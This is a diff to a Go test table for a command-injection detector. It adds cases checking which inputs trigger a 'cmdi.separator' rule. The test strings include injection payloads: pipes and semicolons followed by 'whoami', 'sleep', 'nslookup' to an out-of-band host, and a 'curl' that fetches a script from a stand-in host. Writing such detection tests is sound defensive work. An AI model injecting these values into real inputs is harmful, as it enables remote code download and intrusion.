@@ -215,6 +215,8 @@ func TestShellLeadCommand(t *testing.T) {
 		{"quoted command word after an address", `127.0.0.1|"whoami"`, "cmdi.separator"},
 		{"quoted command word then a host", `1;"nslookup" x.oast.example`, "cmdi.separator"},
 		{"quoted command word then a number", `;"sleep" 10`, "cmdi.separator"},
+		{"quoted command word spaced from the separator", `127.0.0.1; 'curl' http://x.example/a.sh`, "cmdi.separator"},
+		{"quoted word alone spaced from the separator", `1; "whoami"`, ""},
 		{"quoted items of a list", `1;"John";"Smith";"Berlin"`, ""},
 		{"quoted command names in a list", `"name";"curl";"wget"`, ""},
 		{"quoted command word a sentence goes on after", `Hi; "ping" me later`, ""},
